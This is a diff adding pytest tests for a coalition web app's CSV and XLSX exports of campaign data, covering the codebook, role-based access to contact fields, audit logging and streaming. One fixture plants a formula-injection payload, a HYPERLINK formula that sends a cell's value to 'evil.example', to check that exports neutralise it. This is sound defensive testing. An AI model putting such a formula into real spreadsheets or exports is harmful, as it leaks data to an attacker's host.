@@ -1,0 +1,153 @@
+"""Exports of a campaign's raw data: CSV with BOM and XLSX that open and round-trip, neutralised, streamed."""
+from __future__ import annotations
+
+import csv
+import io
+import uuid
+
+import openpyxl
+import pytest
+from sqlalchemy import select
+
+from tests.factories import make_campaign, make_priority_response, make_user
+from webapp.extensions import db
+from webapp.models import AuditEvent, MemberAssessment, Response
+from webapp.services.analysis_runs import run_now
+from webapp.services.exports import neutralize
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture
+def campaign(app):
+    campaign = make_campaign(slug="north", needs=("housing", "food"))
+    for i in range(12):
+        make_priority_response(
+            campaign, {"housing": 5 if i % 2 else 3, "food": 4}, top_three=("housing",),
+            profile={"place": "+1 Main St" if i == 0 else "98118", "income_band": "under_25k", "uninsured": i < 4,
+                     "race_ethnicity": ["black", "latino"]},
+            answers={"barrier": (HOSTILE if i == 0 else f"Rent is too high ({i})", "en"),
+                     "change": ("@SUM(1+1)" if i == 1 else "Más autobuses", "es")},
+            commit=False)
+    member = Response(client_uuid=uuid.uuid4(), content_hash="0" * 64, campaign_id=campaign.id, instrument="member",
+                      language="en", channel="web")
+    db.session.add(member)
+    db.session.flush()
+    db.session.add(MemberAssessment(response_id=member.id, directory_consent=True, name="Ana Member",
+                                    email="ana@example.org", phone="-555 0100", organisation="Clinic",
+                                    sector="health_care", involvement="active"))
+    db.session.commit()
+    run_now(campaign, n_bootstrap=0)
+    return campaign
+
+
+@pytest.fixture
+def lead(campaign, auth):
+    user = make_user("lead@example.org", "lead", campaigns=[campaign])
+    auth.login_as(user)
+    return user
+
+
+@pytest.fixture
+def admin(campaign, auth):
+    user = make_user("admin@example.org", "admin")
+    auth.login_as(user)
+    return user
+
+
+def read_csv(response) -> list[list[str]]:
+    text = response.get_data().decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:])))
+
+
+def test_csv_tables_have_a_bom_and_one_row_per_response_rating_and_answer(client, lead):
+    responses = read_csv(client.get("/coalition/north/export.csv?table=responses"))
+    ratings = read_csv(client.get("/coalition/north/export.csv?table=ratings"))
+    answers = read_csv(client.get("/coalition/north/export.csv?table=answers"))
+    assert len(responses) == 1 + 12 and len(ratings) == 1 + 24 and len(answers) == 1 + 24
+    header = responses[0]
+    assert {"representative_weight", "affectedness", "equity_weight", "channel", "event"} <= set(header)
+    row = dict(zip(header, responses[1]))
+    assert float(row["representative_weight"]) > 0 and row["race_ethnicity"] == "black;latino"
+    assert ratings[0] == ["response_id", "need", "importance", "top_three"]
+    assert answers[0][-2:] == ["theme_id", "theme"]
+
+
+def test_formula_like_text_is_neutralised_in_csv(client, lead):
+    answers = read_csv(client.get("/coalition/north/export.csv?table=answers"))
+    texts = [row[4] for row in answers[1:]]
+    assert "'" + HOSTILE in texts and "'@SUM(1+1)" in texts
+    assert not any(text.startswith(("=", "@", "+", "-")) for text in texts)
+    places = [row[6] for row in read_csv(client.get("/coalition/north/export.csv?table=responses"))[1:]]
+    assert "'+1 Main St" in places
+
+
+def test_the_xlsx_opens_with_openpyxl_and_round_trips(client, lead):
+    response = client.get("/coalition/north/export.xlsx")
+    assert response.status_code == 200 and response.is_streamed
+    assert response.mimetype.endswith("spreadsheetml.sheet")
+    book = openpyxl.load_workbook(io.BytesIO(response.get_data()), read_only=True)
+    assert book.sheetnames == ["responses", "ratings", "answers", "members", "codebook"]
+    answers = list(book["answers"].iter_rows(values_only=True))
+    csv_answers = read_csv(client.get("/coalition/north/export.csv?table=answers"))
+    assert [str(v) for v in answers[0]] == csv_answers[0]
+    assert len(answers) == len(csv_answers)
+    texts = [row[4] for row in answers[1:]]
+    assert neutralize(HOSTILE) in texts and all(not t.startswith("=") for t in texts)
+    ratings = list(book["ratings"].iter_rows(values_only=True))
+    assert {row[2] for row in ratings[1:]} == {3, 4, 5}  # numbers stay numbers
+    book.close()
+
+
+def test_the_codebook_names_every_column_with_its_question_in_each_language(client, lead):
+    rows = read_csv(client.get("/coalition/north/export.csv?table=codebook"))
+    header = rows[0]
+    assert header[:2] == ["table", "column"] and "question_en" in header and "question_es" in header
+    by_column = {(r[0], r[1]): dict(zip(header, r)) for r in rows[1:]}
+    assert by_column[("responses", "age_band")]["question_es"] == "Su edad"
+    assert by_column[("ratings", "need=housing")]["question_es"] == "housing [es]"
+    assert ("answers", "question=barrier") in by_column
+    assert ("members", "email") not in by_column
+
+
+def test_contact_fields_are_left_out_for_leads(client, lead):
+    members = read_csv(client.get("/coalition/north/export.csv?table=members"))
+    assert "email" not in members[0] and "ana@example.org" not in str(members)
+    assert client.get("/coalition/north/export.csv?table=members&include_contact=1").status_code == 403
+    assert client.get("/coalition/north/export.xlsx?include_contact=1").status_code == 403
+    assert "Download everything with contact details" not in client.get("/coalition/north/exports").get_data(as_text=True)
+
+
+def test_an_admin_may_include_contact_fields_and_that_is_audited(client, admin):
+    assert "Download everything with contact details" in client.get("/coalition/north/exports").get_data(as_text=True)
+    members = read_csv(client.get("/coalition/north/export.csv?table=members&include_contact=1"))
+    row = dict(zip(members[0], members[1]))
+    assert row["email"] == "ana@example.org" and row["phone"] == "'-555 0100"
+    book = openpyxl.load_workbook(io.BytesIO(client.get("/coalition/north/export.xlsx?include_contact=1").get_data()))
+    assert "email" in [c.value for c in book["members"][1]]
+    events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export.downloaded")
+                                .order_by(AuditEvent.id)).all()
+    assert [e.detail["include_contact"] for e in events] == [True, True]
+    assert all(e.actor_id == admin.id for e in events)
+
+
+def test_every_download_is_audited(client, lead):
+    client.get("/coalition/north/export.csv?table=ratings")
+    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "export.downloaded"))
+    assert event.detail["export"] == "responses-ratings" and event.detail["include_contact"] is False
+
+
+def test_large_exports_stream(client, lead, monkeypatch):
+    from webapp.services import response_exports
+
+    monkeypatch.setattr(response_exports, "BATCH", 5)
+    response = client.get("/coalition/north/export.csv?table=ratings")
+    assert response.is_streamed
+    chunks = list(response.response)
+    assert len(chunks) == 1 + 24  # a line at a time, never the whole file at once
+    response.close()
+
+
+def test_an_unknown_table_is_not_found(client, lead):
+    assert client.get("/coalition/north/export.csv?table=passwords").status_code == 404
